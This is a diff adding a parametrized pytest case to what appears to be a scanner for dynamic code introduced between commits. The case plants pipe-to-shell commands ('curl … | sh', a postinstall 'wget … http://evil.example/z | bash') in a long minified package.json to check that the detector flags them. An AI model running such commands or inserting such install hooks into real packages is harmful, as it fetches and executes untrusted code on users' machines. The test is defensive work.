@@ -131,6 +131,19 @@ def test_a_call_on_a_minified_line_in_place_of_another_one_is_new(drawing: Drawi
     assert fact.introduced
 
 
+@pytest.mark.parametrize(
+    ("more", "new"),
+    [('"postinstall":"wget -qO- http://evil.example/z | bash"', 1), ('"postinstall":"wget -qO z http://evil.example/z"', 0)],
+)  # fmt: skip
+def test_a_command_more_on_a_minified_line_is_new(drawing: Drawing, more: str, new: int) -> None:
+    begin = f'{{"d":"{"a" * 5_200}","scripts":{{"x":"curl -s http://a.example/y | sh"'
+    base = drawing.commit({"package.json": begin + "}}\n"})
+    drawing.commit({"package.json": f"{begin},{more}}}}}\n"})
+    facts = found(asked(drawing.path, base, "code.dynamic_code"), "code.dynamic_code")
+    assert sum(each.introduced is True for each in facts) == new
+    assert facts
+
+
 def test_of_a_long_line_the_part_is_quoted_that_begins_with_the_call(drawing: Drawing) -> None:
     base = drawing.commit({"lib.min.js": "z();\n"})
     drawing.commit({"lib.min.js": "a(1)," * 1_200 + "b.globalEval(u),c(2);\n"})
